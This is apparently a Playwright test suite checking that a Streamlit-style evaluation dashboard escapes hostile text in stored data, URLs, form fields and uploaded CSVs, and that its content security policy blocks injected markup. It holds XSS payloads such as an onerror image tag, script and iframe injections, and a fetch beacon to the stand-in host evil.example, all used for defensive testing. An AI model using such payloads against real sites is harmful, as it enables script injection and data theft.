"""Text is only ever text: hostile strings in every place that outside text can reach, and in every text field.

The browser runs without the server's content security policy here, so that nothing but the escaping of text is tested.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from rationale_eval.ui.pages import PAGES
from tests.helpers.dashboard import Seen, Server, address, new_page, open_at, serving, settled
from tests.helpers.hostile import STRINGS, batches, storable
from tests.helpers.hostile_workspace import SET, make_hostile

TYPED = [text for text in STRINGS if storable(text)]
NAMES = [page.name for page in PAGES]
INSIDE = (
    *("iframe", "object", "embed", "script", "base", "meta", "form[action]", ".katex"),
    *('a[href*="evil.example"]', 'a[href^="javascript"]', 'a[href^="mailto"]', 'img[src*="evil.example"]'),
)
MARKUP = ", ".join([*(f"[data-testid=stMain] {each}" for each in INSIDE), "base", "[onerror]", "[onload]", "[onfocus]"])
"""What only markup or Markdown could have put there."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, dict[str, str]]]:
    folder = tmp_path_factory.mktemp("hostile") / "workspace"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("RATIONALE_EVAL_WORKSPACE", str(folder))
        found = make_hostile(folder)
    with serving(folder) as server:
        yield server, found


@pytest.fixture
def bare(browser: Any) -> Iterator[tuple[Any, Seen]]:
    page, seen = new_page(browser, bypass_csp=True)
    page.on("console", lambda said: seen.errors.append(said.text) if "__pwned" in said.text else None)
    yield page, seen
    page.context.close()


def require_only_text(page: Any, seen: Seen, where: str) -> None:
    """No script ran, nothing was asked of elsewhere, and no element stands there that only markup could have made."""
    assert page.evaluate("window.__pwned") is None, where
    assert seen == Seen(), where
    made = page.evaluate(
        "which => [...document.querySelectorAll(which)].map(each => each.outerHTML.slice(0, 200))", MARKUP
    )
    assert made == [], where


def addresses(found: dict[str, str]) -> dict[str, str]:
    """Views of every page that show what is hostile."""
    data, run = quote(found["data"]), found["words"]
    views = {name: address(name) for name in NAMES}
    return views | {
        "a set": f"data?data={data}&split=test",
        "import": f"data?part=import&data={data}",
        "words": f"examples?run={run}",
        "an example": f"examples?run={run}&example={quote('3 <i>id</i>')}",
        "texts": f"examples?run={found['texts']}&example={quote('5 <i>id</i>')}",
        "compare": f"compare?run={run}&runs={run}",
        "a failed run": f"train?run={found['failed']}",
        "probe": f"probe?data={data}&run={run}",
        "methods": "methods?search=" + quote(TYPED[0]),
    }


def test_nothing_that_is_stored_becomes_more_than_text(
    bare: tuple[Any, Seen], hostile: tuple[Server, dict[str, str]]
) -> None:
    page, seen = bare
    server, found = hostile
    for where, view in addresses(found).items():
        open_at(page, server, view)
        require_only_text(page, seen, where)
    # It was there to be seen: the set's name in the picker, an example's text, a run's title.
    open_at(page, server, f"data?data={quote(found['data'])}&split=test")
    expect(page.get_by_label("Data set", exact=True)).to_have_value(re.compile("^" + re.escape(SET)))
    page.get_by_text("First examples").wait_for()


def test_nothing_in_an_address_becomes_more_than_text(bare: tuple[Any, Seen], looking: Server) -> None:
    """One of many at a time would take an hour; benchmarks/hostile.py does that."""
    page, seen = bare
    texts = batches(TYPED, 60, cap=60)
    words = (
        "data",
        "split",
        "run",
        "runs",
        "systems",
        "metric",
        "metrics",
        "example",
        "slice",
        "order",
        "part",
        "search",
    )
    for number, name in enumerate(NAMES):
        query = "&".join(
            f"{word}={quote(texts[(place + number) % len(texts)][:1900])}" for place, word in enumerate(words)
        )
        open_at(page, looking, f"{address(name)}?{query}"[:24_000])
        require_only_text(page, seen, f"the address of {name}")


@pytest.mark.parametrize("name", NAMES)
def test_nothing_typed_becomes_more_than_text(
    name: str, bare: tuple[Any, Seen], hostile: tuple[Server, dict[str, str]]
) -> None:
    page, seen = bare
    server, found = hostile
    views = {"data": "import", "examples": "an example", "probe": "probe", "compare": "compare"}
    open_at(page, server, addresses(found)[views.get(name, name)])
    fields = page.locator(
        ", ".join(f"[data-testid=stMain] {each}:not([disabled])" for each in ("input[type=text]", "textarea"))
    )
    for text in batches(TYPED, 105, cap=40):
        for place in range(min(fields.count(), 4)):
            field = fields.nth(place)
            if field.is_visible():
                field.fill(text)
                field.press("Enter" if field.evaluate("each => each.tagName") == "INPUT" else "Control+Enter")
        settled(page)
        require_only_text(page, seen, name)


def test_nothing_uploaded_becomes_more_than_text(
    bare: tuple[Any, Seen], hostile: tuple[Server, dict[str, str]], tmp_path: Path
) -> None:
    """File names, column names, cells, and the reasons why rows are left out."""
    page, seen = bare
    server, _ = hostile
    heads = [text for text in TYPED if "\n" not in text and "\r" not in text and 0 < len(text) < 60][:20]
    file = tmp_path / "<img src=x onerror=alert(1)> [x](b) $y$.csv"
    quoted = ['"' + text.replace('"', '""') + '"' for text in heads]
    cells = ['"' + text[:300].replace('"', '""').replace("\r", " ") + '"' for text in TYPED[:40]]
    lines = ["text,label," + ",".join(quoted)]
    lines += [f"{cell},{cells[-1 - n]}" + "," * len(heads) for n, cell in enumerate(cells)]
    file.write_text("\n".join([*lines, "," + cells[0] + "," * len(heads)]) + "\n", encoding="utf-8")
    open_at(page, server, "data?part=add")
    page.locator("input[type=file]").first.set_input_files(str(file))
    page.get_by_text("What will come of it").wait_for()
    settled(page)
    require_only_text(page, seen, "the mapping")
    page.get_by_label("Name of the set").fill("[a](b) $x$")
    page.get_by_label("Name of the set").press("Enter")
    settled(page)
    page.get_by_role("button", name="Keep this set").click()
    page.get_by_role("button", name="Look at it").wait_for()
    settled(page)
    require_only_text(page, seen, "what was left out")


def test_the_browser_would_refuse_it_as_well(browser: Any, looking: Server) -> None:
    """The second line: markup that is put into the page by force runs nothing and loads nothing."""
    page, seen = new_page(browser)
    open_at(page, looking)
    loads = "".join(
        f'<{tag} {where}="http://evil.example/{tag}" {more}></{tag}>'
        for tag, where, more in (
            ("img", "src", 'onerror="window.__pwned=1"'),
            ("iframe", "src", ""),
            ("link", "href", "rel=stylesheet"),
            ("object", "data", ""),
        )
    )
    page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", loads)
    page.evaluate("""() => { for (const text of ['window.__pwned=1', '']) {
        const script = document.createElement('script');
        if (text) script.textContent = text; else script.src = 'http://evil.example/x.js';
        document.body.append(script); } }""")
    blocked = page.evaluate("fetch('http://evil.example/beacon').then(() => 'sent', () => 'blocked')")
    assert blocked == "blocked"
    assert page.evaluate("window.__pwned") is None
    answer = page.request.get(looking.url)
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY" and answer.headers["x-content-type-options"] == "nosniff"
    assert page.request.get(f"{looking.url}/_stcore/health").headers["content-security-policy"]
    page.context.close()
    assert seen.dialogs == [] and seen.errors == []
